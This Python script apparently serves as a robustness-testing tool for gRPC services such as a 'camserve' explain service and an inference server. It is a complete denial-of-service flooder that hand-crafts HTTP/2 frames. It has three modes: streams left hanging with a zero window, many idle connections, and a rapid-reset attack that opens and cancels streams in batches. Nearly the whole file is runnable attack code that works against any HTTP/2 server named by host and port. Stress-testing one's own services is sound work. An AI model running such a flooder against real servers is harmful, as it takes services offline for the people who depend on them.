"""Floods a server: frames of HTTP/2 made by hand, so that it costs the attacker less than any client would.

    python -m robustness.flood_it HOST:PORT KIND COUNT [SECONDS]

stuck: so many calls whose message never comes, and answers to every ping. silent: so many connections that say nothing.
reset: so many calls a second times so many seconds, opened and taken back at once, no faster than that. It says on a
line of its own when it has begun, and keeps its connections until its standard input ends; then it says what became of
them.
"""

import itertools
import json
import socket
import struct
import sys
import threading
import time

DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
ACKNOWLEDGED, END_OF_STREAM, END_OF_HEADERS = 1, 1, 4
CANCEL = struct.pack(">I", 8)
RPCS = (
    *("camserve.v1.ExplainService/Explain", "camserve.v1.ExplainService/ExplainStream"),
    *("inference.GRPCInferenceService/ModelInfer", "inference.GRPCInferenceService/ModelStreamInfer"),
)
STREAMS = 100  # on a connection, of which a server takes no more
AT_ONCE = 50  # streams opened and taken back in one write


def frame(kind, flags, stream, content=b""):
    return len(content).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + content


def plain(name, value):
    """A header as HPACK has it without tables."""
    return b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value


def opening(rpc):
    path = f"/{rpc}".encode()
    more = ((b":path", path), (b":authority", b"x"), (b"content-type", b"application/grpc"), (b"te", b"trailers"))
    return b"\x83\x86" + b"".join(plain(*each) for each in more)  # POST, http


OPENINGS = tuple(map(opening, RPCS))
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
NO_WINDOW = struct.pack(">HI", 4, 0)  # SETTINGS_INITIAL_WINDOW_SIZE: the answers are never read


class Connection:
    """One connection that sends only what HTTP/2 requires, so that it is not closed for silence.

    Args:
        host: of the server.
        port: of it.
        settings: of HTTP/2, as they are sent.
    """

    def __init__(self, host, port, settings=b""):
        self.socket = socket.create_connection((host, int(port)), 10)
        self.socket.settimeout(None)  # a server that says nothing has not closed it
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        self.streams, self.open, self.statuses = itertools.count(1, 2), True, 0
        self.listener = threading.Thread(target=self._listen, daemon=True)
        self.listener.start()

    def _listen(self):
        with self.socket.makefile("rb") as incoming:
            try:
                while head := incoming.read(9):
                    self._hear(head[3], head[4], incoming.read(int.from_bytes(head[:3], "big")))
            except (OSError, IndexError):
                pass  # closed by the server
        self.open = False

    def _hear(self, kind, flags, content):
        self.statuses += kind == HEADERS
        if kind in {SETTINGS, PING} and not flags & ACKNOWLEDGED:
            self.socket.sendall(frame(kind, ACKNOWLEDGED, 0, content if kind == PING else b""))

    def send(self, rpc, message):
        """Open a call with its one message; return the stream's number."""
        stream, length = next(self.streams), struct.pack(">BI", 0, len(message))
        opened = frame(HEADERS, END_OF_HEADERS, stream, opening(rpc))
        self.socket.sendall(opened + frame(DATA, END_OF_STREAM, stream, length + message))
        return stream

    def call(self, count, *, cancel):
        """Open so many calls in one write."""
        frames = bytearray()
        for stream in itertools.islice(self.streams, count):
            frames += frame(HEADERS, END_OF_HEADERS, stream, OPENINGS[stream // 2 % len(OPENINGS)])
            if cancel:
                frames += frame(RESET, 0, stream, CANCEL)
        self.socket.sendall(frames)


def stuck(where, count, _seconds):
    connections = []
    for start in range(0, count, STREAMS):
        connections.append(Connection(*where))
        connections[-1].call(min(STREAMS, count - start), cancel=False)
    yield
    for one in connections:
        one.listener.join(1)  # what the server has closed is read to its end
    yield {
        "ended": sum(one.statuses for one in connections),
        "open": sum(one.open for one in connections),
    }


def silent(where, count, _seconds):
    sockets = [socket.create_connection(where, 10) for _ in range(count)]
    yield
    yield {"open": sum(map(is_open, sockets))}


def is_open(one):
    one.setblocking(False)
    try:
        while one.recv(1024):
            pass
    except BlockingIOError:
        return True
    except OSError:
        pass
    return False


def reset(where, count, seconds):
    connection, sent, began = Connection(*where), 0, time.perf_counter()
    yield
    while sent < count * seconds:
        try:
            if not connection.open:
                connection = Connection(*where)
            connection.call(AT_ONCE, cancel=True)
            sent += AT_ONCE
        except OSError:
            connection.open = False
        time.sleep(max(0.0, sent / count - (time.perf_counter() - began)))
    yield {"sent": sent, "open": int(connection.open)}


def main(address, kind, count, seconds="0"):
    flood = {"stuck": stuck, "silent": silent, "reset": reset}[kind](
        tuple(address.rsplit(":", 1)), int(count), float(seconds)
    )
    next(flood)
    print("begun", flush=True)  # noqa: T201 -- to whoever started it
    if kind == "reset":
        print(json.dumps(next(flood)), flush=True)  # noqa: T201
        sys.stdin.read()
        return
    sys.stdin.read()
    print(json.dumps(next(flood)), flush=True)  # noqa: T201


if __name__ == "__main__":
    main(*sys.argv[1:])
